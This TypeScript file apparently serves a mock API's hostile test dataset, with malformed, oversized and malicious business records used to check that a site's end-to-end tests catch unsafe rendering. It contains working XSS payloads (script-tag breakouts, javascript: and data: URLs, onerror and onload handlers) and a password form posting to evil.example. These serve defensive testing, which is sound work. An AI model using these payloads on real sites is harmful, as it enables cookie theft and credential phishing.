import { errorResponse, jsonResponse, type ApiResponse } from './handlers';
import type { Route } from './routes';
import type { JsonObject, JsonValue } from './types';

/**
 * The hostile dataset served in `hostile` fault mode, beside the normal businesses: an upstream
 * that is compromised, buggy or lying. Nothing here is typed as the API's types on purpose —
 * wrong types are part of the test. Each business targets one class of failure:
 *
 * - hostile-script-injection: markup and script in every string, `javascript:`/`data:` URLs in
 *   website, logo, images and Markdown links, raw HTML in Markdown, `</script>` in JSON-LD.
 * - hostile-wrong-types: strings where arrays are due, numbers as strings, unknown enum values,
 *   ratings of 7 and -1, unparseable dates, totals that disagree with the items.
 * - hostile-nulls: null in every field, and null items inside arrays.
 * - crêperie-sœur-élodie: a valid business whose slug has non-ASCII letters.
 * - hostile-non-listed / hostile-hidden: NON_LISTED and HIDDEN businesses wrongly listed (and
 *   the HIDDEN one even served by slug).
 * - hostile-megabyte: a megabyte of Markdown in the business and in an article, a very long
 *   name and a website address far wider than a phone.
 * - hostile/../odd slug 100%: a slug with "/", "..", "%" and spaces, and sub-resources named
 *   likewise (one holds a literal "%C3%A9", which must not be decoded twice).
 * - hostile-thousands: thousands of articles and FAQ questions, and paged endpoints that ignore
 *   `limit` (thousands of items per page) with totals that disagree with them.
 * - hostile-no-visibility / hostile-lowercase-public: listed without a visibility, or with an
 *   enum value in the wrong case: neither is PUBLIC as the spec spells it.
 * Documents answer by id and by slug, as the spec says.
 */

interface HostileBusiness {
  slug: string;
  business: JsonObject;
  articleList: JsonValue;
  articles: Record<string, JsonValue>;
  /** undefined: /faq is a 404. */
  faq?: JsonValue;
  reviews: JsonValue;
  catalog: JsonValue;
  items: Record<string, JsonValue>;
  documentList: JsonValue;
  documents: Record<string, JsonValue>;
}

// Every payload that could run also sets window.__pwned, the canary the e2e tests watch.
const XSS = '<script>window.__pwned=1;alert("xss")</script>';
const CLOSE_SCRIPT = '</script><script>window.__pwned=1;alert("breakout")</script>';
const JS_URL = 'javascript:window.__pwned=1;alert(document.cookie)';
const DATA_HTML_URL = 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';
const DATA_SVG_URL =
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=';
const NOW = '2026-01-15T12:00:00Z';

const HOSTILE_MARKDOWN = `# Totally normal heading ${XSS}

<script>alert("raw script in markdown")</script>

<iframe src="${JS_URL}"></iframe>

<img src="x" onerror="window.__pwned=1;alert('img onerror')">

<a href="JaVaScRiPt:alert('mixed case')">mixed-case javascript link</a>

[a javascript: link](${JS_URL}) and [a data: link](${DATA_HTML_URL}) and [vbscript](vbscript:msgbox(1))

![an image with a data: URL](${DATA_SVG_URL}) ![an image with a javascript: URL](${JS_URL})

<javascript:alert('autolink')>

<div style="position:fixed;inset:0;background:red" onclick="alert('overlay')">overlay</div>

<!-- a comment with ${CLOSE_SCRIPT} -->

\`\`\`html
${CLOSE_SCRIPT}
\`\`\`

| column ${XSS} |
|---|
| <b onmouseover="alert('cell')">cell</b> |

<form action="https://evil.example/steal"><input name="password" type="password"></form>
`;

function scriptInjection(): HostileBusiness {
  const slug = 'hostile-script-injection';
  const item = {
    id: `${XSS}-item`,
    label: `${XSS} Evil item`,
    description: `${CLOSE_SCRIPT}<img src=x onerror=alert(1)>`,
    itemSlug: 'evil-item',
    itemType: 'PRODUCT',
    unitPrice: 9.99,
    unitMeasure: `<b>${XSS}</b>`,
    imageUrl: JS_URL,
    brand: `<marquee>${XSS}</marquee>`,
    tags: [XSS, `<a href="${JS_URL}">tag</a>`],
    available: true,
    attributes: {
      [XSS]: CLOSE_SCRIPT,
      startDate: XSS,
      link: JS_URL,
      nested: { deeper: [XSS, { html: '<svg onload=alert(1)>' }] },
    },
  };
  const document = {
    id: '00000000-0000-4000-8000-00000000dead',
    slug: 'evil-document',
    label: `${XSS} Evil document`,
    description: CLOSE_SCRIPT,
    type: 'PDF',
    fileSize: 1024,
    thumbnailUrl: DATA_SVG_URL,
    createdAt: NOW,
    updatedAt: NOW,
  };
  const article = {
    slug: 'evil-article',
    title: `${XSS} Evil article`,
    description: CLOSE_SCRIPT,
    publishedDate: NOW,
    updatedAt: NOW,
  };
  return {
    slug,
    business: {
      businessName: `${XSS}Evil Corp`,
      slug,
      website: JS_URL,
      description: `${CLOSE_SCRIPT} <img src=x onerror=alert(1)> & "quotes" 'apostrophes'`,
      logo: DATA_SVG_URL,
      email: `"><img src=x onerror=alert(1)>@evil.example`,
      phone: `<a href="${JS_URL}">555</a>`,
      legalName: `Evil & Co. <iframe src="${JS_URL}"></iframe>`,
      primaryLanguage: `fr"><script>alert("lang")</script>`,
      locations: [
        {
          address: '<img src=x onerror=alert(1)>',
          city: `</title>${XSS}`,
          postal_code: '"><svg onload=alert(1)>',
          country: '<style>body{display:none}</style>',
        },
      ],
      areas: [XSS, CLOSE_SCRIPT],
      category: `${XSS} category`,
      tags: [XSS, `<a href="${JS_URL}">tag</a>`],
      mdContent: HOSTILE_MARKDOWN,
      updatedAt: NOW,
      businessTypes: [{ id: XSS, label: `${XSS} type` }],
      visibility: 'PUBLIC',
      isVerified: true,
    },
    articleList: { articles: [article], total: 1 },
    articles: {
      'evil-article': {
        ...article,
        content: HOSTILE_MARKDOWN,
        contentPublic: `<p>${XSS}<img src=x onerror=alert(1)></p><a href="${JS_URL}">click</a>`,
        keywords: CLOSE_SCRIPT,
      },
    },
    faq: {
      updatedAt: NOW,
      categories: [
        {
          name: XSS,
          questions: [
            {
              question: `${XSS}?`,
              response: HOSTILE_MARKDOWN,
              responsePublic: `<p onclick="alert(1)">${XSS}</p>`,
            },
          ],
        },
      ],
      uncategorizedQuestions: [
        {
          question: CLOSE_SCRIPT,
          response: `[click](${JS_URL})`,
          responsePublic: `<a href="${JS_URL}">click</a>`,
        },
      ],
    },
    reviews: {
      reviews: [
        {
          author: XSS,
          ratingValue: 5,
          title: CLOSE_SCRIPT,
          content: `<img src=x onerror=alert(1)> ${XSS}`,
          contentPublic: `<p>${XSS}</p>`,
          reviewDate: NOW,
        },
      ],
      total: 1,
      page: 1,
      limit: 20,
    },
    catalog: { items: [item], total: 1, page: 1, limit: 20 },
    items: {
      'evil-item': {
        ...item,
        additionalImages: [DATA_SVG_URL, JS_URL, 'https://evil.example/tracker.gif'],
        mdContent: HOSTILE_MARKDOWN,
        fullUrl: JS_URL,
        enrichment: {
          faq: [{ question: XSS, answer: CLOSE_SCRIPT }],
          comparison: { columns: [XSS], rows: [[CLOSE_SCRIPT]] },
          html: `<iframe src="${JS_URL}"></iframe>`,
        },
      },
    },
    documentList: { data: [document], total: 1, totalPages: 1 },
    documents: {
      [document.id]: {
        ...document,
        markdownContent: HOSTILE_MARKDOWN,
        seoTitle: `${CLOSE_SCRIPT}`,
        seoDescription: XSS,
        seoKeywords: [XSS],
        jsonLd: {
          '@context': 'https://schema.org',
          '@type': 'DigitalDocument',
          name: `${CLOSE_SCRIPT}<!--`,
          description: '</SCRIPT ><script>alert("uppercase close")</script>',
          contentUrl: JS_URL,
          url: DATA_HTML_URL,
        },
      },
    },
  };
}

function wrongTypes(): HostileBusiness {
  // Every field of the wrong type; listed in the catalog and served as its own item page.
  const spaceship: JsonObject = {
    id: 1,
    label: null,
    description: 42,
    itemSlug: 'spaceship',
    itemType: 'SPACESHIP',
    unitPrice: '12.50',
    unitMeasure: 3,
    imageUrl: 'ftp://example.com/image.png',
    brand: ['brand'],
    tags: 'a,b',
    available: 'yes',
    attributes: [1, 2, 3],
  };
  // The same for a document: listed, and its own document page with a body added.
  const wrongDocument: JsonObject = {
    id: 99,
    slug: 7,
    label: null,
    description: [],
    type: 'DOCX',
    fileSize: '12 MB',
    thumbnailUrl: 'not a url',
    createdAt: 'last tuesday',
    updatedAt: -1,
  };
  const slug = 'hostile-wrong-types';
  return {
    slug,
    business: {
      businessName: 'Wrong Types Ltd.',
      slug,
      website: 'not a url at all',
      description: 12,
      logo: 12345,
      email: ['wrong@types.example'],
      phone: 5145550000,
      legalName: { name: 'an object' },
      primaryLanguage: 42,
      locations: { address: '1 Object Street', city: 'Montréal' },
      areas: 'Montréal, Laval',
      category: ['array', 'category'],
      tags: 'one,two,three',
      mdContent: { markdown: '# not a string' },
      updatedAt: 'yesterday at noon-ish',
      businessTypes: [{ id: 7, label: null }, 'plain string', null],
      visibility: 'SECRET',
      isVerified: 'true',
    },
    articleList: {
      articles: [
        {
          slug: 'real-article',
          title: 'Dates are wrong',
          description: null,
          publishedDate: '2025-13-45T99:99:99Z',
          updatedAt: '',
        },
        {
          slug: 17,
          title: ['array title'],
          description: 'number slug',
          publishedDate: 1700000000000,
          updatedAt: 'not a date',
        },
      ],
      total: '5',
    },
    articles: {
      'real-article': {
        slug: 'real-article',
        title: 'Dates are wrong',
        description: null,
        publishedDate: 'soon',
        updatedAt: 'never',
        content: ['not', 'a', 'string'],
        contentPublic: 42,
        keywords: ['should', 'be', 'a', 'string'],
      },
    },
    faq: {
      updatedAt: 12,
      categories: 'none',
      uncategorizedQuestions: [
        { question: null, response: 42, responsePublic: false },
        'just a string',
      ],
    },
    reviews: {
      reviews: [
        {
          author: 'Seven Stars',
          ratingValue: 7,
          title: 'Too good',
          content: 'Out of range',
          contentPublic: '<p>Out of range</p>',
          reviewDate: NOW,
        },
        {
          author: 'Minus One',
          ratingValue: -1,
          title: 'Too bad',
          content: 'Negative',
          contentPublic: '<p>Negative</p>',
          reviewDate: '31/12/2025',
        },
        {
          author: 'String Rating',
          ratingValue: '4.5',
          title: 'Number as string',
          content: 'Rating is a string',
          contentPublic: '',
          reviewDate: 'not a date',
        },
        {
          author: 42,
          ratingValue: null,
          title: null,
          content: null,
          contentPublic: null,
          reviewDate: null,
        },
        {
          author: 'Huge',
          ratingValue: 1e308,
          title: 'Huge',
          content: 'Huge rating',
          contentPublic: '',
          reviewDate: '0000-00-00T00:00:00Z',
        },
      ],
      total: 3,
      page: '1',
      limit: '20',
    },
    catalog: {
      items: [
        spaceship,
        {
          id: 'second',
          label: 'Negative price',
          description: null,
          itemSlug: 'negative-price',
          itemType: 'product',
          unitPrice: -50,
          unitMeasure: null,
          imageUrl: '//no-scheme.example/x.png',
          brand: null,
          tags: [1, null],
          available: 0,
          attributes: 'not an object',
        },
      ],
      total: 1000,
      page: 7,
      limit: 0,
    },
    items: {
      spaceship: {
        ...spaceship,
        additionalImages: 'https://example.com/one.png',
        mdContent: 42,
        fullUrl: 'www.example.com',
        enrichment: ['not', 'an', 'object'],
      },
    },
    documentList: {
      data: [wrongDocument],
      total: 0,
      totalPages: 99,
    },
    documents: {
      '99': {
        ...wrongDocument,
        markdownContent: { md: true },
        seoTitle: 1,
        seoDescription: false,
        seoKeywords: 'comma,separated',
        jsonLd: '{"@type":"string not object"}',
      },
    },
  };
}

function allNulls(): HostileBusiness {
  const slug = 'hostile-nulls';
  const nullBusiness: JsonObject = Object.fromEntries(
    [
      'businessName',
      'website',
      'description',
      'logo',
      'email',
      'phone',
      'legalName',
      'primaryLanguage',
      'locations',
      'areas',
      'category',
      'tags',
      'mdContent',
      'updatedAt',
      'businessTypes',
      'visibility',
      'isVerified',
    ].map((key) => [key, null]),
  );
  return {
    slug,
    business: { ...nullBusiness, slug, _citation: null },
    articleList: { articles: null, total: null },
    articles: {},
    faq: {
      updatedAt: null,
      categories: [null, { name: null, questions: null }],
      uncategorizedQuestions: null,
    },
    reviews: {
      reviews: [
        null,
        {
          author: null,
          ratingValue: null,
          title: null,
          content: null,
          contentPublic: null,
          reviewDate: null,
        },
      ],
      total: null,
      page: null,
      limit: null,
    },
    catalog: {
      items: [null, { id: null, label: null, itemSlug: null, itemType: null, available: null }],
      total: null,
      page: null,
      limit: null,
    },
    items: {},
    documentList: { data: null, total: null, totalPages: null },
    documents: {},
  };
}

function validBusiness(slug: string, name: string, visibility: string): JsonObject {
  return {
    businessName: name,
    slug,
    website: 'https://hostile.example',
    description: `${name}: listed although it should not be, or named with letters beyond ASCII.`,
    logo: null,
    email: null,
    phone: null,
    legalName: null,
    primaryLanguage: 'fr',
    locations: [],
    areas: ['Montréal'],
    category: 'Test',
    tags: [],
    mdContent: null,
    updatedAt: NOW,
    businessTypes: [],
    visibility,
    isVerified: false,
  };
}

function emptySections(slug: string, business: JsonObject): HostileBusiness {
  return {
    slug,
    business,
    articleList: { articles: [], total: 0 },
    articles: {},
    reviews: { reviews: [], total: 0, page: 1, limit: 20 },
    catalog: { items: [], total: 0, page: 1, limit: 20 },
    items: {},
    documentList: { data: [], total: 0, totalPages: 0 },
    documents: {},
  };
}

/** About a megabyte of varied Markdown: long paragraphs, deep lists, wide tables, one huge line. */
function megabyteMarkdown(): string {
  const section = (n: number) =>
    `## Section ${n}\n\n${'Lorem ipsum dolor sit amet, **consectetur** adipiscing _elit_, sed do eiusmod tempor. '.repeat(20)}\n\n` +
    `${Array.from({ length: 8 }, (_, depth) => `${'  '.repeat(depth)}- nested level ${depth}`).join('\n')}\n\n` +
    `| ${Array.from({ length: 12 }, (_, column) => `col ${column}`).join(' | ')} |\n|${'---|'.repeat(12)}\n` +
    `${Array.from({ length: 5 }, (_, row) => `| ${Array.from({ length: 12 }, (_, column) => `r${row}c${column}`).join(' | ')} |`).join('\n')}\n\n`;
  let markdown = `# A megabyte of Markdown\n\n${'x'.repeat(50_000)}\n\n`;
  for (let n = 1; Buffer.byteLength(markdown) < 1_048_576; n += 1) markdown += section(n);
  return markdown;
}

function megabyte(): HostileBusiness {
  const slug = 'hostile-megabyte';
  const markdown = megabyteMarkdown();
  const article = {
    slug: 'megabyte-article',
    title: 'A megabyte article',
    description: 'One megabyte of Markdown.',
    publishedDate: NOW,
    updatedAt: NOW,
  };
  const base = emptySections(slug, {
    ...validBusiness(slug, `Megabyte ${'Very Long Name '.repeat(40)}`.trim(), 'PUBLIC'),
    // A valid address far wider than a phone, with no place to break.
    website: `https://www.example.com/${'averyveryverylongpathsegment'.repeat(12)}?ref=${'x'.repeat(80)}`,
    mdContent: markdown,
  });
  return {
    ...base,
    articleList: { articles: [article], total: 1 },
    articles: {
      'megabyte-article': {
        ...article,
        content: markdown,
        contentPublic: `<p>${'x'.repeat(1_000)}</p>`,
        keywords: 'big',
      },
    },
  };
}

export const ODD_SLUG = 'hostile/../odd slug 100%';
export const ODD_ARTICLE_SLUG = 'caf%C3%A9 / ../tips 50%';

function oddSlugs(): HostileBusiness {
  const slug = ODD_SLUG;
  const article = {
    slug: ODD_ARTICLE_SLUG,
    title: 'An article with an odd slug',
    description: 'Its slug holds a literal %C3%A9.',
    publishedDate: NOW,
    updatedAt: NOW,
  };
  const item = {
    id: 'odd-item',
    label: 'An item with an odd slug',
    description: null,
    itemSlug: '../item ?#',
    itemType: 'SERVICE',
    unitPrice: null,
    unitMeasure: null,
    imageUrl: null,
    brand: null,
    tags: null,
    available: true,
    attributes: null,
  };
  const document = {
    id: '../doc 1',
    slug: null,
    label: 'A document with an odd id',
    description: null,
    type: 'PDF',
    fileSize: null,
    thumbnailUrl: null,
    createdAt: NOW,
    updatedAt: NOW,
  };
  const base = emptySections(slug, {
    ...validBusiness(slug, 'Odd Slug & Co.', 'PUBLIC'),
    mdContent: '# Odd slug\n\nEvery link to this business is percent-encoded.',
  });
  return {
    ...base,
    articleList: { articles: [article], total: 1 },
    articles: {
      [article.slug]: {
        ...article,
        content: 'Article body.',
        contentPublic: '<p>Article body.</p>',
        keywords: 'odd',
      },
    },
    faq: {
      updatedAt: NOW,
      categories: [],
      uncategorizedQuestions: [
        { question: 'Is this slug odd?', response: 'Yes.', responsePublic: '<p>Yes.</p>' },
      ],
    },
    reviews: {
      reviews: [
        {
          author: 'Odd',
          ratingValue: 4,
          title: 'Odd',
          content: 'Odd but fine.',
          contentPublic: '',
          reviewDate: NOW,
        },
      ],
      total: 1,
      page: 1,
      limit: 20,
    },
    catalog: { items: [item], total: 1, page: 1, limit: 20 },
    items: {
      [item.itemSlug]: {
        ...item,
        additionalImages: null,
        mdContent: 'An odd item.',
        fullUrl: null,
        enrichment: null,
      },
    },
    documentList: { data: [document], total: 1, totalPages: 1 },
    documents: {
      [document.id]: {
        ...document,
        markdownContent: 'An odd document.',
        seoTitle: null,
        seoDescription: null,
        seoKeywords: null,
        jsonLd: null,
      },
    },
  };
}

/** Count items, each built from its index. */
function times<T>(count: number, build: (n: number) => T): T[] {
  return Array.from({ length: count }, (_, n) => build(n));
}

function thousands(): HostileBusiness {
  const slug = 'hostile-thousands';
  const day = (n: number) => new Date(Date.UTC(2025, 0, 1) + (n % 365) * 86_400_000).toISOString();
  const articles = times(2500, (n) => ({
    slug: `article-${n}`,
    title: `Article ${n}`,
    description: `Article number ${n}.`,
    publishedDate: day(n),
    updatedAt: day(n),
  }));
  const question = (n: number) => ({
    question: `Question ${n}?`,
    response: `Answer ${n}.`,
    responsePublic: `<p>Answer ${n}.</p>`,
  });
  const items = times(3000, (n) => ({
    id: `item-${n}`,
    label: `Item ${n}`,
    description: null,
    itemSlug: `item-${n}`,
    itemType: 'PRODUCT',
    unitPrice: n,
    unitMeasure: null,
    imageUrl: null,
    brand: null,
    tags: null,
    available: true,
    attributes: null,
  }));
  const documents = times(2000, (n) => ({
    id: `doc-${n}`,
    slug: null,
    label: `Document ${n}`,
    description: null,
    type: 'PDF',
    fileSize: n,
    thumbnailUrl: null,
    createdAt: NOW,
    updatedAt: NOW,
  }));
  const base = emptySections(slug, validBusiness(slug, 'Thousands of Things', 'PUBLIC'));
  return {
    ...base,
    articleList: { articles, total: 3 },
    articles: {
      'article-0': {
        ...articles[0],
        content: 'The first of many.',
        contentPublic: '',
        keywords: '',
      },
    },
    faq: {
      updatedAt: NOW,
      categories: times(30, (c) => ({
        name: `Category ${c}`,
        questions: times(40, (q) => question(c * 40 + q)),
      })),
      uncategorizedQuestions: times(300, (n) => question(1200 + n)),
    },
    // Paged endpoints that ignore `page` and `limit`, with totals that disagree with the items.
    reviews: {
      reviews: times(3000, (n) => ({
        author: `Reviewer ${n}`,
        ratingValue: n % 6,
        title: `Review ${n}`,
        content: `Review number ${n}.`,
        contentPublic: '',
        reviewDate: day(n),
      })),
      total: 7,
      page: 1,
      limit: 20,
    },
    catalog: { items, total: 5, page: 1, limit: 20 },
    items: {
      'item-0': {
        ...items[0],
        additionalImages: null,
        mdContent: null,
        fullUrl: null,
        enrichment: null,
      },
    },
    documentList: { data: documents, total: 1, totalPages: 0 },
    documents: {
      'doc-0': {
        ...documents[0],
        markdownContent: null,
        seoTitle: null,
        seoDescription: null,
        seoKeywords: null,
        jsonLd: null,
      },
    },
  };
}

let dataset: readonly HostileBusiness[] | undefined;

function hostileDataset(): readonly HostileBusiness[] {
  dataset ??= [
    scriptInjection(),
    wrongTypes(),
    allNulls(),
    emptySections(
      'crêperie-sœur-élodie',
      validBusiness('crêperie-sœur-élodie', 'Crêperie Sœur Élodie', 'PUBLIC'),
    ),
    emptySections(
      'hostile-non-listed',
      validBusiness('hostile-non-listed', 'Wrongly Listed (NON_LISTED)', 'NON_LISTED'),
    ),
    emptySections(
      'hostile-hidden',
      validBusiness('hostile-hidden', 'Wrongly Listed (HIDDEN)', 'HIDDEN'),
    ),
    megabyte(),
    oddSlugs(),
    thousands(),
    emptySections('hostile-no-visibility', {
      ...validBusiness('hostile-no-visibility', 'Wrongly Listed (no visibility)', 'PUBLIC'),
      visibility: null,
    }),
    emptySections(
      'hostile-lowercase-public',
      validBusiness('hostile-lowercase-public', 'Wrongly Listed (lower-case public)', 'public'),
    ),
  ];
  return dataset;
}

export const HOSTILE_SLUGS: readonly string[] = [
  'hostile-script-injection',
  'hostile-wrong-types',
  'hostile-nulls',
  'crêperie-sœur-élodie',
  'hostile-non-listed',
  'hostile-hidden',
  'hostile-megabyte',
  ODD_SLUG,
  'hostile-thousands',
  'hostile-no-visibility',
  'hostile-lowercase-public',
];

/** Listed by the hostile API although they are not PUBLIC: the site must never list them. */
export const HOSTILE_UNLISTABLE_SLUGS: readonly string[] = [
  'hostile-non-listed',
  'hostile-hidden',
  'hostile-no-visibility',
  'hostile-lowercase-public',
];

export const HOSTILE_UNLISTABLE_NAMES: readonly string[] = [
  'Wrongly Listed (NON_LISTED)',
  'Wrongly Listed (HIDDEN)',
  'Wrongly Listed (no visibility)',
  'Wrongly Listed (lower-case public)',
];

let listingEntries: Buffer | undefined;

/** The hostile businesses as listing entries, comma-separated, ready to splice into `{"data":[…]}`. */
export function hostileListingEntries(): Buffer {
  listingEntries ??= Buffer.from(
    hostileDataset()
      .map((business) => JSON.stringify(business.business))
      .join(','),
  );
  return listingEntries;
}

/** The spec lets a document be addressed by its slug as well as its id. */
function documentBySlug(business: HostileBusiness, slug: string): JsonValue | undefined {
  return Object.values(business.documents).find(
    (document) =>
      typeof document === 'object' &&
      document !== null &&
      !Array.isArray(document) &&
      String(document.slug) === slug,
  );
}

function found(value: JsonValue | undefined, what: string): ApiResponse {
  return value === undefined ? errorResponse(404, `${what} not found`) : jsonResponse(200, value);
}

/** The hostile answer for a route, or null when the route is not about a hostile business. */
export function hostileResponse(route: Route): ApiResponse | null {
  if (route.operation === 'listBusinesses') return null;
  const business = hostileDataset().find((candidate) => candidate.slug === route.slug);
  if (!business) return null;
  switch (route.operation) {
    case 'getBusiness':
      return jsonResponse(200, business.business);
    case 'listBlogArticles':
      return jsonResponse(200, business.articleList);
    case 'getBlogArticle':
      return found(business.articles[route.articleSlug], 'Blog article');
    case 'getBusinessFaq':
      return found(business.faq, 'FAQ');
    case 'listBusinessReviews':
      return jsonResponse(200, business.reviews);
    case 'listCatalogItems':
      return jsonResponse(200, business.catalog);
    case 'getCatalogItem':
      return found(business.items[route.itemSlug], 'Catalog item');
    case 'listBusinessDocuments':
      return jsonResponse(200, business.documentList);
    case 'getDocument':
      return found(
        business.documents[route.documentId] ?? documentBySlug(business, route.documentId),
        'Document',
      );
  }
}
